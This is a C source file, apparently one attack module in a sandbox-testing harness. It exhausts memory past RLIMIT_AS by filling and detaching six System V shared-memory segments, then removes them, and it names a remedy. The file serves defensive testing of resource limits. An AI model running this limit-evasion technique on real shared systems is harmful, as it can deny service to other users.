// SPDX-License-Identifier: MIT
/*
 * sysv-shm.c - a memory bomb that lets go of its memory.
 *
 * Goal: more memory than the budget.
 * Means: a System V segment lives until somebody removes it, attached or not. Attach, touch,
 * detach, and take the next: RLIMIT_AS only sees the one attached now. The memory would even
 * outlive the process, so we remove what the harness did not end with the arena.
 */
#include "attacks/attack.h"

#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>

#define SEGMENTS 6
#define BYTES	 (64UL << 20)

/* Make one segment, fill it and let go of it. Its id, or -1 with errno. */
static int fill(void)
{
	int id = shmget(IPC_PRIVATE, BYTES, IPC_CREAT | 0600);
	void *at;

	if (id < 0)
		return -1;
	at = shmat(id, NULL, 0);
	if (at == (void *)-1) {
		shmctl(id, IPC_RMID, NULL);
		return -1;
	}
	memset(at, 'x', BYTES);
	shmdt(at);
	return id;
}

static enum claim run(const struct brief *b)
{
	enum claim claim = CLAIM_DONE;
	int id[SEGMENTS], n = 0;

	attempting(b);
	while (n < SEGMENTS && claim == CLAIM_DONE) {
		id[n] = fill();
		if (id[n] < 0)
			claim = denied("shmget");
		else
			n++;
	}
	if (claim == CLAIM_DONE)
		claim = hold();
	while (n-- > 0)
		shmctl(id[n], IPC_RMID, NULL);
	return claim;
}

const struct attack attack = {
	.effect = "more memory than the budget, in no process at all",
	.means = "System V segments, filled and detached, one after the other",
	.oracle = "usage:memory",
	.needs = NEED_SYSVIPC,
	.quick = true,
	.id = "MEM-04",
	.attack_id = "T1499.001, CWE-770, CWE-1325",
	.remedy = "deny shmget; remove what the user's segments are left after each run",
	.run = run,
};
